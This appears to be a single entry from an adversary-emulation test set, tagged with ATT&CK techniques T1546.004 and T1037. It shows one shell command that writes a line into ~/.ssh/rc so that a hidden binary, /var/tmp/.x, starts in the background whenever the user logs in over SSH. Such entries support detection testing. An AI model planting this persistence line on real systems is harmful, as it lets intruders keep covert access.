# title: sshd runs a user's rc when he logs in
# technique: T1546.004 T1037
# as: user

echo '/var/tmp/.x &' >~/.ssh/rc
